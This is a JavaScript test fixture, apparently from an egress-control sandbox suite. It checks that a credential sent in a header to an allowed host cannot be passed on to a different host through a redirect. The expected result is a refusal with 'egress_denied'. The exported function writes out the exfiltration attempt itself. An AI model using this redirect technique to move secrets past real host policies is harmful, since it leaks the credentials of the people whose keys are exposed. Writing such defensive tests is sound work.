export const attempt = {
  tries: "to have a value that it was given itself sent on to another host by a redirect",
  refusedBecause: "each redirect is a request of its own and is searched",
  ends: { code: "egress_denied", message: "the credential KEY is not allowed for this host" },
  seen: ["GET /to"],
  allowedHosts: ["http://{witness}", "http://{other}"],
  keyHosts: ["http://{witness}"],
  keyIsExposed: true,
};

export default async ({ witness, other }, { credentials }) => {
  const url = encodeURIComponent(`http://${other}/sent-on`);
  await fetch(`http://${witness}/to?url=${url}`, { headers: { "x-key": credentials.KEY } });
  return "got through";
};
